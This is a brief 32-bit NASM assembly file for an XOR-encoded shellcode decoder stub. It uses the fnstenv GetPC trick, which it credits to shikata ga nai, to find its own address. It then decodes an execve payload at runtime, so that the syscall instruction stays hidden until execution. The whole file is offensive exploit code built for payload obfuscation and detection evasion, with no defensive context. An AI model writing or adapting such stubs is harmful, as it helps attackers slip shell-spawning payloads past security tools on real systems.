; GetPC by fnstenv (shikata ga nai's way): an FPU instruction, then fnstenv
; stores the environment with its address, popped off the stack; a loop
; xors the encoded execve body back and falls into it. The body holds no
; int 0x80 until it is decoded.
BITS 32
%include "xorbody.inc"
%define KEY 0x5a
    fldz
    fnstenv [esp - 12]
    pop esi                     ; the address of fldz
    add esi, body - $$
    xor ecx, ecx
    mov cl, body_end - body
decode:
    xor byte [esi], KEY
    inc esi
    loop decode
body:
    xdb KEY, EXECVE32
body_end:
